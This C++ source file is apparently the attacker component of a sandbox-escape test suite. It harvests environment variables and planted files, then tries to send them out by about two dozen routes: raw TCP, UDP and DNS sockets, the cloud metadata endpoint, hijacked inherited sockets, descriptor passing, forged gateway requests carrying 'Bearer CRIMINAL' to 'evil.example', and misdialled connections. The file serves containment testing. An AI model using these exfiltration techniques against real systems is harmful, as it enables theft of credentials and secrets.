// The ways out, one small function each; tests/escape has a hundred more.

#include <arpa/inet.h>
#include <fcntl.h>
#include <linux/io_uring.h>
#include <netinet/in.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

#include <algorithm>
#include <array>
#include <cerrno>
#include <cstring>
#include <vector>

#include "connector/dialler/words.h"
#include "gateway/descriptors.h"
#include "gateway/frames.h"
#include "thief.h"

namespace guildhall::incident {
namespace {

constexpr int kPipe = 3;   // shim: to the translator; translator: to the room; dialler: to the shim
constexpr int kNext = 4;   // shim: to the dialler; translator: to the shim
constexpr int kSpent = 5;  // dialler
constexpr int kFirst = 3, kLast = 64;
constexpr std::size_t kConnections = 16;

sockaddr_in address(const char* host, std::uint16_t port) {
  sockaddr_in out{};
  out.sin_family = AF_INET;
  out.sin_port = htons(port);
  inet_pton(AF_INET, host, &out.sin_addr);
  return out;
}

bool connect_to(int fd, const sockaddr_in& to) {
  return connect(fd, reinterpret_cast<const sockaddr*>(&to), sizeof to) == 0;
}

void say(int fd, std::string_view text) {
  [[maybe_unused]] auto sent = send(fd, text.data(), text.size(), MSG_NOSIGNAL);
}

// libcurl's stand-in for connect is not for a thief: the system call is.
bool really_connect(int fd, const sockaddr* to, socklen_t size) {
  return syscall(SYS_connect, fd, to, size) == 0;
}

bool send_by(int type, int protocol, const char* host, std::uint16_t port, const Loot& loot) {
  int fd = socket(AF_INET, type, protocol);
  if (fd < 0) return false;
  auto to = address(host, port);
  bool connected = really_connect(fd, reinterpret_cast<const sockaddr*>(&to), sizeof to);
  if (connected) say(fd, loot.text());
  close(fd);
  return connected;
}

void tcp(const Loot& loot) { send_by(SOCK_STREAM, 0, kElsewhere, kSink, loot); }
void udp(const Loot& loot) { send_by(SOCK_DGRAM, 0, kElsewhere, kSinkUdp, loot); }
void dns(const Loot& loot) { send_by(SOCK_DGRAM, 0, "127.0.0.53", kDns, loot); }
void mptcp(const Loot& loot) { send_by(SOCK_STREAM, IPPROTO_MPTCP, "127.0.0.1", kSink, loot); }
void metadata(const Loot& loot) { send_by(SOCK_STREAM, 0, kMetadata, kWeb, loot); }
// Of a way that sends nothing by itself: that it worked.
void through(const Loot& loot) { tcp(loot); }

void unix_socket(const Loot& loot) {
  for (bool abstract : {false, true}) {
    int fd = socket(AF_UNIX, SOCK_STREAM, 0);
    sockaddr_un to{};
    to.sun_family = AF_UNIX;
    std::string_view name = abstract ? kAbstract : kSinkSocket;
    name.copy(to.sun_path + (abstract ? 1 : 0), name.size());
    auto size = static_cast<socklen_t>(sizeof to.sun_family + name.size() + 1);
    if (really_connect(fd, reinterpret_cast<const sockaddr*>(&to), size)) say(fd, loot.text());
    close(fd);
  }
}

int family_of(int fd) {
  int value = -1;
  socklen_t size = sizeof value;
  return getsockopt(fd, SOL_SOCKET, SO_DOMAIN, &value, &size) == 0 ? value : -1;
}

// Every socket that it holds, aimed anew.
void turn(const Loot& loot) {
  auto to = address("127.0.0.1", kSink);
  sockaddr none{};
  for (int fd = kFirst; fd < kLast; ++fd) {
    if (family_of(fd) != AF_INET) continue;
    bool off = really_connect(fd, &none, sizeof none);
    fcntl(fd, F_SETFL, 0);
    if (off && really_connect(fd, reinterpret_cast<const sockaddr*>(&to), sizeof to)) {
      say(fd, loot.text());
    }
  }
}

void fast_open(const Loot& loot) {
  auto to = address("127.0.0.1", kSink);
  auto text = loot.text();
  for (int fd = kFirst; fd < kLast; ++fd) {
    if (family_of(fd) != AF_INET) continue;
    shutdown(fd, SHUT_RDWR);
    sendto(fd, text.data(), text.size(), MSG_FASTOPEN | MSG_NOSIGNAL,
           reinterpret_cast<const sockaddr*>(&to), sizeof to);
  }
}

// Every descriptor to whoever is at the other end of every pipe.
void pass(const Loot&) {
  for (int pipe : {kPipe, kNext}) {
    if (family_of(pipe) != AF_UNIX) continue;
    for (int fd = kFirst; fd < kLast; ++fd) {
      if (fcntl(fd, F_GETFD) >= 0) (void)gateway::send_message(pipe, "x", fd);
    }
  }
}

void splice_out(const Loot& loot) {
  int ends[2];
  auto text = loot.text();
  int fd = socket(AF_INET, SOCK_STREAM, 0);
  auto to = address("127.0.0.1", kSink);
  bool aimed = fd >= 0 && really_connect(fd, reinterpret_cast<const sockaddr*>(&to), sizeof to);
  if (pipe(ends) != 0) return;
  [[maybe_unused]] auto written = write(ends[1], text.data(), text.size());
  splice(ends[0], nullptr, aimed ? fd : kPipe, nullptr, text.size(), 0);
}

void uring(const Loot& loot) {
  io_uring_params params{};
  if (syscall(SYS_io_uring_setup, 4, &params) >= 0) through(loot);
}

void other_memory(const Loot& loot) {
  char here[8];
  iovec mine{here, sizeof here};
  iovec theirs{here, sizeof here};  // there or not: EFAULT is an answer, too
  for (pid_t other = 1; other < 1 << 15; ++other) {
    if (other == getpid()) continue;
    bool read = process_vm_readv(other, &mine, 1, &theirs, 1, 0) >= 0 || errno == EFAULT;
    if (read) return through(loot);
  }
}

void execute(const Loot& loot) {
  pid_t child = fork();
  if (child == 0) {
    execl("/bin/true", "true", nullptr);
    _exit(1);
  }
  int status = 1;
  if (child > 0 && waitpid(child, &status, 0) == child && status == 0) through(loot);
}

void by_output(const Loot& loot) {
  for (int i = 0; i < 500; ++i) {
    for (int fd : {STDOUT_FILENO, STDERR_FILENO}) {
      auto text = "2026-03-24T10:39:00.000Z error " + loot.text();
      [[maybe_unused]] auto written = write(fd, text.data(), text.size());
    }
  }
}

// Nobody is to hear of it.
void silently(const Loot& loot) {
  for (int fd : {STDIN_FILENO, STDOUT_FILENO, STDERR_FILENO}) close(fd);
  tcp(loot);
}

// ---- to the allowed peer
std::string post_of(const Loot& loot, std::size_t bytes) {
  auto body = loot.text();
  body.resize(std::max(bytes, body.size()), 'x');
  return "POST /v1/files HTTP/1.1\r\nHost: peer\r\nAuthorization: Bearer "
         "CRIMINAL\r\nContent-Length: " +
         std::to_string(body.size()) + "\r\n\r\n" + body;
}

void foreign(const Loot& loot) {
  for (int fd = kFirst; fd < kLast; ++fd) {
    if (family_of(fd) == AF_INET) say(fd, post_of(loot, 0));
  }
}

// As much as goes, over as many connections as it gets.
void bulk(const Loot& loot) {
  auto post = post_of(loot, 1U << 20);
  std::vector<gateway::Descriptor> open;
  fcntl(kNext, F_SETFL, 0);
  while (open.size() < kConnections && gateway::send_message(kNext, connector::kDial)) {
    auto answer = gateway::receive_message(kNext);
    if (!answer || !answer->descriptor) break;
    open.push_back(std::move(answer->descriptor));
  }
  for (int round = 0; round < 256; ++round) {
    for (const auto& one : open) say(one.get(), post);
  }
}

// ---- a translator's frames
void garbage(int pipe, const Loot& loot) {
  std::string bytes(4'096, '\xff');
  say(pipe, loot.text() + bytes);
}
void garbage_room(const Loot& loot) { garbage(kPipe, loot); }
void garbage_shim(const Loot& loot) { garbage(kNext, loot); }

// A request of its own, with a credential of its own.
void forged(const Loot& loot) {
  std::string frames;
  auto body = loot.text();
  gateway::Begin begin;
  begin.operation = gateway::Operation::chat;
  begin.provider = gateway::Dialect::chat;
  begin.body_bytes = static_cast<std::uint32_t>(body.size());
  begin.timeouts = {5'000, 5'000, 5'000, 5'000};
  begin.max_reply_bytes = 1U << 20;
  begin.model = "m";
  begin.headers = {{"authorization", "Bearer CRIMINAL"}, {"host", "evil.example"}};
  gateway::put_begin(frames, 999, begin);
  gateway::put_pieces(frames, gateway::FrameKind::body, 999, body);
  gateway::put_frame(frames, gateway::FrameKind::body_end, 999, {});
  say(kNext, frames);
}

// What it has, told to whoever asked.
void reply(const Loot& loot) {
  std::string frames;
  gateway::put_head(frames, 1, {200, {{"content-type", "application/json"}}});
  gateway::put_pieces(frames, gateway::FrameKind::data, 1, loot.text());
  gateway::put_end(frames, 1, {gateway::Ending::complete, {}});
  say(kPipe, frames);
}

// ---- a dialler's
// The shim gets the criminal's server in the peer's stead.
void misdial(const Loot& loot) {
  int fd = socket(AF_INET, SOCK_STREAM, 0);
  if (connect_to(fd, address(kElsewhere, loot.way == "misdial" ? kPlainPeer : kTlsPeer))) {
    (void)gateway::send_message(kPipe, connector::kDialled, fd);
  }
}

// The only file that it may write.
void spent(const Loot& loot) {
  auto text = loot.text();
  [[maybe_unused]] auto written = pwrite(kSpent, text.data(), text.size(), 64);
  written = pwrite(kSpent, "x", 1, 1LL << 30);
}

constexpr std::pair<std::string_view, void (*)(const Loot&)> kWays[] = {
    {"none", [](const Loot&) {}},
    {"tcp", tcp},
    {"udp", udp},
    {"dns", dns},
    {"mptcp", mptcp},
    {"metadata", metadata},
    {"unix", unix_socket},
    {"turn", turn},
    {"fast-open", fast_open},
    {"pass", pass},
    {"splice", splice_out},
    {"io-uring", uring},
    {"memory", other_memory},
    {"execute", execute},
    {"output", by_output},
    {"silent", silently},
    {"foreign", foreign},
    {"bulk", bulk},
    {"garbage-room", garbage_room},
    {"garbage-shim", garbage_shim},
    {"forged", forged},
    {"reply", reply},
    {"misdial", misdial},
    {"misdial-tls", misdial},
    {"spent", spent},
};

}  // namespace

void harvest(Loot& loot) {
  for (char** one = environ; one != nullptr && *one != nullptr; ++one) loot.take(*one);
  std::array<char, 65'536> bytes{};
  for (const char* path : kPlanted) {
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    if (fd < 0) continue;
    ssize_t got = read(fd, bytes.data(), bytes.size());
    if (got > 0) loot.take({bytes.data(), static_cast<std::size_t>(got)});
    close(fd);
  }
}

void try_way(const Loot& loot) {
  for (const auto& [name, way] : kWays) {
    if (name == loot.way) way(loot);
  }
}

}  // namespace guildhall::incident
